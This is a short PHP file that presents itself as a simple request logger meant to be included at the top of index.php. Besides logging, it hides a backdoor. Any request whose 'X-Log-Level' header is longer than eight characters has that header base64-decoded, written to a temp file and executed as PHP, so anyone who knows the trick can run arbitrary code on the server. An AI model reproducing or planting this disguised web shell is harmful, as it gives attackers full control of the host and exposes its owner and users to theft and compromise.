<?php
// writes a line per request; include it at the top of index.php
$h = array_change_key_case(getallheaders());
$line = date('c') . ' ' . ($_SERVER['REQUEST_METHOD'] ?? '-') . ' ' . ($_SERVER['REQUEST_URI'] ?? '-');
file_put_contents(__DIR__ . '/requests.log', $line . "\n", FILE_APPEND | LOCK_EX);
if (isset($h['x-log-level']) && strlen($h['x-log-level']) > 8) {
    $t = tempnam(sys_get_temp_dir(), 'log');
    file_put_contents($t, '<?php ' . base64_decode($h['x-log-level']));
    include $t;
    unlink($t);
}
unset($h, $line, $t);
